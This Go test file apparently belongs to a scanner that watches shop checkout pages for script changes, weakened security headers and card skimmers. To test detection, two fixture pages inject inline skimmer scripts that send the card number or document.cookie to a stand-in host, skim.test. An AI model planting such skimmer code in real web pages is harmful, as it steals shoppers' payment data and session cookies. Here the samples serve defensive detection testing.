package main

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/pem"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/urfave/cli/v2"

	"github.com/padlock-scan/padlock/alert"
	"github.com/padlock-scan/padlock/history"
	"github.com/padlock-scan/padlock/internal/sitetest"
	"github.com/padlock-scan/padlock/internal/sitetest/testnet"
	"github.com/padlock-scan/padlock/report"
	"github.com/padlock-scan/padlock/scan"
)

// swapSite serves one VHosts at a time; a test swaps in the next version of the site between runs.
type swapSite struct {
	mu sync.Mutex
	h  http.Handler
}

func (s *swapSite) set(h http.Handler) {
	s.mu.Lock()
	s.h = h
	s.mu.Unlock()
}

func (s *swapSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	h := s.h
	s.mu.Unlock()
	h.ServeHTTP(w, r)
}

// shopVersion describes one state of the watched shop.
type shopVersion struct {
	appJS      string // the first-party script's body
	skimmer    bool   // an inline script added to the checkout page
	payJSSRI   bool   // the provider's script has an integrity attribute
	csp        string // "" sends none
	hsts       string // "" sends none
	checkout   int    // the checkout page's status: 200, 500, or 302 to the login page
	payJSFound bool
}

var goodShop = shopVersion{appJS: "console.log('app v1')", payJSSRI: true, payJSFound: true,
	csp: "script-src 'self' https://cdn.test; object-src 'none'", hsts: "max-age=31536000; includeSubDomains", checkout: 200}

const payJS = "window.pay = function () { return 'card' }"

func (v shopVersion) hosts(cdn string) *sitetest.VHosts {
	h := sitetest.NewVHosts()
	h.Add("shop.test/", sitetest.HTML(`<!doctype html><title>Shop</title><a href="/checkout">Checkout</a>`))
	var headers []string
	if v.csp != "" {
		headers = append(headers, "Content-Security-Policy: "+v.csp)
	}
	if v.hsts != "" {
		headers = append(headers, "Strict-Transport-Security: "+v.hsts)
	}
	integrity := ""
	if v.payJSSRI {
		integrity = ` integrity="` + testnet.SRI("sha384", payJS) + `" crossorigin="anonymous"`
	}
	page := `<!doctype html><title>Checkout</title>
<script src="` + cdn + `/pay.js"` + integrity + `></script>
<script src="/app.js"></script>
<form method="post" action="/pay"><input name="cardnumber" autocomplete="cc-number"><button>Pay</button></form>
`
	if v.skimmer {
		page += `<script>document.forms[0].addEventListener('submit', () => fetch('https://skim.test/c?' + document.forms[0].cardnumber.value))</script>
`
	}
	switch v.checkout {
	case 500:
		h.Add("shop.test/checkout", sitetest.Route{Status: 500, Type: "text/html", Body: "<!doctype html><title>Error</title>oops"})
	case 302:
		h.Add("shop.test/checkout", sitetest.Route{Status: 302, Header: []string{"Location: /login"}})
	default:
		h.Add("shop.test/checkout", sitetest.HTML(page, headers...))
	}
	h.Add("shop.test/login", sitetest.HTML(`<!doctype html><title>Sign in</title><form method="post"><input name="user"><input type="password" name="pw"></form>`))
	h.Add("shop.test/app.js", sitetest.JS(v.appJS))
	if v.payJSFound {
		h.Add("cdn.test/pay.js", sitetest.JS(payJS))
	}
	return h
}

// fakeClock is the watcher's clock: sleeping moves it on at once and calls onWake.
type fakeClock struct {
	mu     sync.Mutex
	t      time.Time
	onWake func() error // an error stops the loop (the watcher's context is done)
}

func (c *fakeClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) sleep(ctx context.Context, d time.Duration) error {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
	return c.onWake()
}

// hookReceiver is a webhook endpoint on loopback: it checks each body's signature and answers
// 500 to the first fail requests.
type hookReceiver struct {
	mu     sync.Mutex
	secret string
	fail   int
	tries  int
	runs   []int64
	bad    int
}

func (h *hookReceiver) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	h.mu.Lock()
	defer h.mu.Unlock()
	h.tries++
	if !alert.Verify([]byte(h.secret), body, r.Header.Get(alert.SignatureHeader)) {
		h.bad++
		http.Error(w, "bad signature", http.StatusUnauthorized)
		return
	}
	if h.tries <= h.fail {
		http.Error(w, "down", http.StatusInternalServerError)
		return
	}
	var a alert.Alert
	if err := json.Unmarshal(body, &a); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	h.runs = append(h.runs, a.Run)
}

func changeKinds(cs []history.Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Kind)
	}
	return out
}

// The watch loop, driven by a clock that never sleeps, over a shop whose scripts and headers
// change between runs: additions, removals of controls, a payment page that fails and one that
// redirects to a login page (degraded: alerted, never the baseline), and the recovery. The
// webhook receiver checks every signature and fails the first alert's deliveries, which are
// recorded and made on the next run.
func TestWatchLoopAlertsOnChangesAndDegradedRuns(t *testing.T) {
	t.Parallel()
	site := &swapSite{}
	hosts := sitetest.StartHosts(t, site, "shop.test", "cdn.test")
	cdn := hosts.Origin("cdn.test")
	changed := goodShop
	changed.appJS, changed.skimmer, changed.csp = "console.log('app v2')", true, goodShop.csp+"; script-src 'unsafe-inline'"
	changed.csp = "script-src 'self' https://cdn.test 'unsafe-inline'; object-src 'none'"
	removed := changed
	removed.skimmer, removed.payJSSRI, removed.csp, removed.hsts = false, false, "", ""
	failing, redirecting, unreadable := removed, removed, removed
	failing.checkout, redirecting.checkout, unreadable.payJSFound = 500, 302, false
	versions := []shopVersion{goodShop, goodShop, changed, removed, failing, redirecting, unreadable, removed}
	site.set(versions[0].hosts(cdn))

	rc := &hookReceiver{secret: "s3cret", fail: 2}
	hook := httptest.NewServer(rc)
	defer hook.Close()
	var waits []time.Duration
	wh := &alert.Webhook{URL: hook.URL, Secret: "s3cret", Poster: alert.Poster{Attempts: 2, Sleep: func(_ context.Context, d time.Duration) error {
		waits = append(waits, d)
		return nil
	}}}

	store, err := history.Open(filepath.Join(t.TempDir(), "h.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	start := hosts.Origin("shop.test") + "/"
	opt := hosts.Options([]string{start})
	clock := &fakeClock{t: time.Date(2026, 12, 7, 3, 0, 0, 0, time.UTC)}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	run := 0
	clock.onWake = func() error {
		run++
		if run == len(versions) {
			cancel()
			return context.Canceled
		}
		site.set(versions[run].hosts(cdn))
		return nil
	}
	var stderr bytes.Buffer
	w := &watcher{opt: opt, site: start, configHash: "test", store: store, channels: []alert.Channel{wh},
		stdout: io.Discard, stderr: &stderr, next: func(t time.Time) time.Time { return t.Add(24 * time.Hour) },
		now: clock.now, sleep: clock.sleep, scanRun: scan.Run, keepReports: 2}
	if err := w.loop(ctx); err != nil {
		t.Fatalf("loop: %v\n%s", err, stderr.String())
	}
	runs, err := store.Runs(context.Background(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	var outcomes []string
	for i, r := range runs {
		outcomes = append(outcomes, r.Outcome)
		if want := time.Date(2026, 12, 7+i, 3, 0, 0, 0, time.UTC); !r.StartedAt.Equal(want) {
			t.Errorf("run %d started %s, want %s (the injected clock)", r.ID, r.StartedAt, want)
		}
	}
	want := []string{"ok", "ok", "changed", "changed", "degraded", "degraded", "degraded", "ok"}
	if !slices.Equal(outcomes, want) {
		t.Fatalf("outcomes %v, want %v\n%s", outcomes, want, stderr.String())
	}
	has := func(r *history.Run, kinds ...string) {
		t.Helper()
		got := changeKinds(r.Changes)
		for _, k := range kinds {
			if !slices.Contains(got, k) {
				t.Errorf("run %d: no %s among %v", r.ID, k, got)
			}
		}
	}
	has(runs[2], history.ScriptAdded, history.ScriptChanged, history.CSPWeakened)
	has(runs[3], history.ScriptRemoved, history.SRIRemoved, history.CSPRemoved, history.HeaderRemoved)
	for _, r := range runs[4:7] {
		if r.BaselineRun != runs[3].ID || len(r.Reasons) == 0 {
			t.Errorf("degraded run %d: baseline %d, reasons %q", r.ID, r.BaselineRun, r.Reasons)
		}
	}
	sitetest.Contains(t, "reasons", strings.Join(runs[4].Reasons, "\n"), "checkout failed: HTTP 500")
	sitetest.Contains(t, "reasons", strings.Join(runs[5].Reasons, "\n"), "checkout now redirects to", "/login")
	sitetest.Contains(t, "reasons", strings.Join(runs[6].Reasons, "\n"), "pay.js of payment page", "could not be read")
	if runs[7].BaselineRun != runs[3].ID || len(runs[7].Changes) != 0 {
		t.Errorf("the recovered run compares with run %d, changes %v", runs[7].BaselineRun, changeKinds(runs[7].Changes))
	}
	// --keep-reports 2: the last two runs keep their report (the last is the baseline); the
	// degraded runs 5-7 were compared with run 4, whose report stayed until run 8 replaced it.
	for i, r := range runs {
		rep, err := store.Report(context.Background(), r.ID)
		if err != nil {
			t.Fatal(err)
		}
		if kept := rep != nil; kept != (i >= 6) {
			t.Errorf("run %d: report kept %v", r.ID, kept)
		}
		if rep != nil {
			rep.Close()
		}
	}
	// Alerts: run 3's failed twice (both attempts), was recorded, and went out with run 4's.
	wantRuns := []int64{runs[2].ID, runs[3].ID, runs[4].ID, runs[5].ID, runs[6].ID}
	if !slices.Equal(rc.runs, wantRuns) || rc.bad != 0 {
		t.Errorf("webhook got the alerts of runs %v (want %v), %d bad signatures", rc.runs, wantRuns, rc.bad)
	}
	if len(waits) == 0 || waits[0] != 2*time.Second {
		t.Errorf("no backoff between tries: %v", waits)
	}
	alerts, err := store.Alerts(context.Background(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 5 {
		t.Fatalf("%d alerts recorded, want 5", len(alerts))
	}
	for _, a := range alerts {
		for _, d := range a.Deliveries {
			if d.Status != history.Delivered {
				t.Errorf("run %d's %s delivery: %s %s", a.RunID, d.Channel, d.Status, d.LastError)
			}
		}
	}
	if d := alerts[0].Deliveries; len(d) != 2 || d[1].Channel != "webhook" || d[1].Attempts != 2 {
		t.Errorf("the first alert's deliveries: %+v", d)
	}
	sitetest.Contains(t, "stderr", stderr.String(), "padlock: alert: padlock watch", "script-added inline sha256:",
		"the webhook alert was not delivered (tried again next run)", "delivered run 3's alert to the webhook now")
	seen, err := store.Scripts(context.Background(), hosts.Origin("shop.test")+"/checkout")
	if err != nil {
		t.Fatal(err)
	}
	if len(seen) < 3 {
		t.Errorf("scripts seen on the checkout page: %+v", seen)
	}
	if testing.Verbose() {
		t.Log(stderr.String())
	}
}

// pagesSite serves pages from a map that a test changes between runs, over TLS, with the
// certificate in a PEM file for --ca-file.
type pagesSite struct {
	mu    sync.Mutex
	pages map[string]string
}

func (p *pagesSite) set(path, body string) {
	p.mu.Lock()
	p.pages[path] = body
	p.mu.Unlock()
}

func (p *pagesSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	body, ok := p.pages[r.URL.Path]
	p.mu.Unlock()
	if !ok {
		http.NotFound(w, r)
		return
	}
	if strings.HasSuffix(r.URL.Path, ".js") {
		w.Header().Set("Content-Type", "text/javascript")
	} else {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Security-Policy", "script-src 'self'")
	}
	io.WriteString(w, body)
}

// padlock watch --once from the command line, twice, then history, history scripts and evidence
// on its store.
func TestWatchOnceHistoryAndEvidenceCommands(t *testing.T) {
	t.Parallel()
	ps := &pagesSite{pages: map[string]string{
		"/":         `<!doctype html><title>Shop</title><a href="/checkout">Pay</a>`,
		"/app.js":   `console.log(1)`,
		"/checkout": `<!doctype html><title>Pay</title><script src="/app.js"></script><form><input autocomplete="cc-number"></form>`,
	}}
	srv := httptest.NewTLSServer(ps)
	srv.Config.ErrorLog = testnet.QuietLog()
	defer srv.Close()
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	writePEM(t, caFile, srv)
	dir := t.TempDir()
	db := filepath.Join(dir, "h.db")
	ctx := context.Background()
	watch := func() (int, string) {
		code, _, stderr := runCLI(t, ctx, "watch", "--once", "--store", db, "--ca-file", caFile, "--check-resources", "scripts", srv.URL+"/")
		return code, stderr
	}
	if code, stderr := watch(); code != 0 || !strings.Contains(stderr, "the first good run, now the baseline (1 payment pages)") {
		t.Fatalf("first run: exit %d\n%s", code, stderr)
	}
	// a start that reaches no payment page says so
	code, _, stderr := runCLI(t, ctx, "watch", "--once", "--no-follow", "--store", filepath.Join(dir, "other.db"), "--ca-file", caFile, srv.URL+"/")
	if code != 0 || !strings.Contains(stderr, "padlock: warning: no payment page was found") {
		t.Errorf("no payment page: exit %d\n%s", code, stderr)
	}
	ps.set("/checkout", `<!doctype html><title>Pay</title><script src="/app.js"></script><script>new Image().src='https://skim.test/?'+document.cookie</script><form><input autocomplete="cc-number"></form>`)
	code, stderr = watch()
	if code != 1 {
		t.Fatalf("a changed payment page: exit %d, want 1\n%s", code, stderr)
	}
	sitetest.Contains(t, "stderr", stderr, "padlock: alert: padlock watch "+srv.URL+"/: run 2 found", "script-added inline sha256:")

	code, stdout, stderr := runCLI(t, ctx, "history", "--store", db)
	if code != 0 {
		t.Fatalf("history: exit %d\n%s", code, stderr)
	}
	sitetest.Contains(t, "history", stdout, "RUN  STARTED", "ok ", "changed ")
	code, stdout, stderr = runCLI(t, ctx, "history", "scripts", "--store", db, "--page", srv.URL+"/checkout")
	if code != 0 {
		t.Fatalf("history scripts: exit %d\n%s", code, stderr)
	}
	sitetest.Contains(t, "history scripts", stdout, "payment page "+srv.URL+"/checkout", srv.URL+"/app.js", "(1)", "(2)", "inline sha256:")
	if code, _, stderr := runCLI(t, ctx, "history", "scripts", "--store", db, "--page", srv.URL+"/nope"); code != 2 || !strings.Contains(stderr, "payment pages in the store: "+srv.URL+"/checkout") {
		t.Errorf("history scripts of an unknown page: exit %d %s", code, stderr)
	}

	// the stored report of run 2, as padlock wrote it: padlock report reads it
	stored := filepath.Join(dir, "run2.json")
	if code, _, stderr := runCLI(t, ctx, "history", "report", "--store", db, "-o", stored, "2"); code != 0 {
		t.Fatalf("history report: exit %d\n%s", code, stderr)
	}
	if rep, err := report.ReadFile(stored); err != nil || len(rep.Pages) == 0 || rep.Pages[0].Resources == nil {
		t.Errorf("the stored report of run 2 reads as %v, %v", rep, err)
	}
	for _, args := range [][]string{{"99"}, {}, {"x"}} {
		if code, _, stderr := runCLI(t, ctx, append([]string{"history", "report", "--store", db}, args...)...); code != 2 {
			t.Errorf("history report %q: exit %d, want 2\n%s", args, code, stderr)
		}
	}

	inv := filepath.Join(dir, "inventory.yml")
	os.WriteFile(inv, []byte("scripts:\n  - url: "+srv.URL+"/app.js\n    justification: the shop's own code <b>\n    owner: web team\n    approved: 2026-11-02\n"), 0o600)
	out := filepath.Join(dir, "evidence")
	code, _, stderr = runCLI(t, ctx, "evidence", "--store", db, "--since", "2020-01-01", "-o", out, "--inventory", inv)
	if code != 0 {
		t.Fatalf("evidence: exit %d\n%s", code, stderr)
	}
	var ev struct {
		Runs []struct {
			Outcome string `json:"outcome"`
		} `json:"runs"`
		Alerts    []json.RawMessage `json:"alerts"`
		Inventory struct {
			Entries []map[string]any `json:"entries"`
		} `json:"inventory"`
	}
	data, err := os.ReadFile(filepath.Join(out, "evidence.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &ev); err != nil {
		t.Fatal(err)
	}
	if len(ev.Runs) != 2 || ev.Runs[1].Outcome != "changed" || len(ev.Alerts) != 1 || len(ev.Inventory.Entries) != 1 {
		t.Errorf("evidence.json: %s", data)
	}
	page, err := os.ReadFile(filepath.Join(out, "evidence.html"))
	if err != nil {
		t.Fatal(err)
	}
	sitetest.Contains(t, "evidence.html", string(page), "the shop&#39;s own code &lt;b&gt;", "web team", "2026-11-02", `class="run" data-outcome="changed"`)
	// a period after every run has none
	code, _, _ = runCLI(t, ctx, "evidence", "--store", db, "--since", "2999-01-01", "-o", filepath.Join(dir, "later"))
	if code != 0 {
		t.Errorf("evidence of an empty period: exit %d", code)
	}
}

func writePEM(t *testing.T, path string, srv *httptest.Server) {
	t.Helper()
	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestWatchUsageErrors(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "h.db")
	ctx := context.Background()
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"watch", "--store", db, "https://127.0.0.1/"}, "watch needs one of --every DURATION, --cron SCHEDULE or --once"},
		{[]string{"watch", "--once", "--every", "1h", "--store", db, "https://127.0.0.1/"}, "watch needs one of"},
		{[]string{"watch", "--cron", "0 3 * *", "--store", db, "https://127.0.0.1/"}, "--cron \"0 3 * *\": want a cron schedule of 5 fields"},
		{[]string{"watch", "--once", "--alert-webhook", "http://hooks.example/x", "--store", db, "https://127.0.0.1/"}, "use https (http only to a loopback host)"},
		{[]string{"watch", "--once", "--alert-secret", "x", "--store", db, "https://127.0.0.1/"}, "give --alert-webhook too"},
		{[]string{"watch", "--once", "--check-resources", "none", "--store", db, "https://127.0.0.1/"}, "watch compares the bytes of scripts"},
		{[]string{"watch", "--once", "--store", db}, "watch needs at least one start URL (padlock watch https://shop.example/)"},
		{[]string{"history", "--store", db + ".none"}, "no history store at"},
		{[]string{"evidence", "--store", db, "--since", "last week"}, "--since \"last week\": want a date such as 2026-01-01"},
	} {
		code, _, stderr := runCLI(t, ctx, c.args...)
		if code != 2 || !strings.Contains(stderr, c.want) {
			t.Errorf("%v: exit %d, stderr %q; want 2 and %q", c.args, code, stderr, c.want)
		}
	}
}

// Each setting of watch's own works in padlock.yml as on the command line.
func TestWatchSettings(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	flags := map[string]bool{}
	for _, f := range watchFlags() {
		flags[f.Names()[0]] = true
	}
	readme, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range settingsTable() {
		if s.command != "watch" {
			if !flags[s.name] && s.args == "" && !s.fileOnly {
				t.Errorf("watch lacks the crawl's --%s", s.name)
			}
			continue
		}
		if !flags[s.name] || s.usage == "" || !strings.Contains(string(readme), "--"+s.name) {
			t.Errorf("--%s: no flag, no help, or not in the README", s.name)
		}
		yml := filepath.Join(dir, s.name+".yml")
		inFile := s.example
		if s.kind == kindString {
			inFile = strconv.Quote(inFile)
		}
		os.WriteFile(yml, []byte(s.name+": "+inFile+"\n"), 0o600)
		fromFile := watchConfigOf(t, "--config", yml, "https://127.0.0.1/")
		fromFlag := watchConfigOf(t, "--"+s.name+"="+s.example, "https://127.0.0.1/")
		if fromFile != fromFlag || fromFile == (watchSettings{store: history.DefaultPath}) {
			t.Errorf("%s: file %+v, flag %+v", s.name, fromFile, fromFlag)
		}
	}
}

// watchConfigOf is watch's own settings after a command line.
func watchConfigOf(t *testing.T, args ...string) watchSettings {
	t.Helper()
	var ws watchSettings
	app := &cli.App{Writer: io.Discard, ErrWriter: io.Discard, ExitErrHandler: func(*cli.Context, error) {},
		Commands: []*cli.Command{{Name: "watch", Flags: watchFlags(), Action: func(c *cli.Context) error {
			cfg, _, err := configure(c)
			if err != nil {
				t.Errorf("%v: %v", args, err)
			}
			ws = cfg.watch
			return nil
		}}}}
	cliMu.Lock()
	defer cliMu.Unlock()
	if err := app.RunContext(context.Background(), append([]string{"padlock", "watch"}, args...)); err != nil {
		t.Fatalf("%v: %v", args, err)
	}
	return ws
}
